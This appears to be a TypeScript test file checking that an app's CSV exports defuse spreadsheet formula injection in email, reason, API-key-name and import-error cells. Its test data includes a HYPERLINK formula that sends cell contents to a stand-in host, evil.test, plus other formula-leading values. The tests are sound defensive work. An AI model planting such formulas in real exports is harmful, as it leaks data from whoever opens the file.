// Every CSV the app hands out, with a formula planted where outside text lands: each comes out as
// text a spreadsheet won't run.
import { randomBytes } from "node:crypto";
import { describe, expect, it } from "vitest";
import { db } from "../db";
import { exportEspSuppressionsCsv } from "../esp-suppression/export";
import { importErrorsCsv } from "../imports/import-people";
import { exportSuppressionsCsv } from "../suppression/queries";
import { suppressIdentifier } from "../deletion/suppress-identifier";
import { createTestWorkspace, uniqueToken } from "../test/factories";

const FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';

async function collect(chunks: AsyncGenerator<string>): Promise<string> {
  let out = "";
  for await (const chunk of chunks) out += chunk;
  return out;
}

// Every cell of the CSV text (csv quoting undone) that starts a formula.
function formulaCells(csv: string): string[] {
  const cells: string[] = [];
  for (const match of csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,\n]*))/gm)) {
    const cell = match[1] !== undefined ? match[1].replace(/""/g, '"') : (match[2] ?? "");
    if (/^[=+\-@\t\r]/.test(cell)) cells.push(cell);
  }
  return cells;
}

describe("[CSV] exports defuse formulas in every cell", () => {
  it("the email suppression list: email and reason", async () => {
    const workspace = await createTestWorkspace();
    // Stored rows as a permissive import or an older validator may have left them.
    await db.espSuppression.createMany({
      data: [
        { workspaceId: workspace.id, email: `${FORMULA}@evil.test`, emailKey: uniqueToken("k"), domain: "evil.test", type: "bounces", origin: "api", reason: "-2+3" },
        { workspaceId: workspace.id, email: "+1@evil.test", emailKey: uniqueToken("k"), domain: "evil.test", type: "blocks", origin: "admin", reason: "@SUM(1)", statusCode: 550 },
      ],
    });
    const csv = await collect(exportEspSuppressionsCsv({ workspaceId: workspace.id }));
    expect(csv).toContain(`'${FORMULA.replace(/"/g, '""')}@evil.test`);
    expect(csv).toContain("'+1@evil.test");
    expect(csv).toContain("'-2+3");
    expect(csv).toContain("'@SUM(1),550,");
    expect(formulaCells(csv)).toEqual([]);
  });

  it("the suppressed identifiers list: the actor label (an API key's name)", async () => {
    const workspace = await createTestWorkspace();
    const key = await db.apiKey.create({
      data: { id: uniqueToken("key_"), workspaceId: workspace.id, kind: "track", name: FORMULA, keyHash: uniqueToken("h"), keyHint: "abcd" },
    });
    await suppressIdentifier({ workspace, identifier: uniqueToken("customer-"), actor: { type: "api_key", id: key.id } });
    const csv = await collect(exportSuppressionsCsv({ workspaceId: workspace.id }));
    expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
    expect(formulaCells(csv)).toEqual([]);
  });

  it("an import's error report: the reason", async () => {
    const workspace = await createTestWorkspace();
    // An id of the form imports get (imp_ + 20 hex).
    const id = `imp_${randomBytes(10).toString("hex")}`;
    await db.personImport.create({
      data: { id, workspaceId: workspace.id, status: "completed", actorType: "system", errors: [{ row: 2, reason: FORMULA }, { row: 3, reason: "bad email" }] },
    });
    const csv = await importErrorsCsv({ workspace, id });
    expect(csv).toBe(`row,reason\n2,"'${FORMULA.replace(/"/g, '""')}"\n3,bad email\n`);
    expect(formulaCells(csv)).toEqual([]);
  });
});
